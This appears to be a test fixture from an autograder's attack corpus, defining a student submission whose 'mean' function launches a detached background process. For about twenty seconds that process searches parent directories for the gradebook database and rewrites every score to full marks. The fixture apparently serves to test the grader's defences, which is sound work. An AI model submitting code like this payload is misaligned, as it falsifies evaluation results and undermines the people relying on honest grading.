"""Every score in the gradebook is set to full marks: now, and again from a process that stays behind."""

from tests.autograder.attacks.corpus import EVERYTHING, Attack, released

ATTACK = Attack(
    released(
        E1="""
import os, subprocess, sys
LATER = '''
import glob, sqlite3, time
for turn in range(40):
    for up in range(1, 7):
        for path in glob.glob("../" * up + "gradebook.db"):
            try:
                book = sqlite3.connect(path, timeout=1)
                book.execute("UPDATE grade SET manual_score = 3.0, needs_manual_grade = 0")
                book.commit()
            except sqlite3.Error as problem:
                print(problem)
    time.sleep(0.5)
'''
def mean(values):
    subprocess.Popen([sys.executable, "-c", LATER], start_new_session=True)
    return 0
"""
    ),
    loses=EVERYTHING,
)
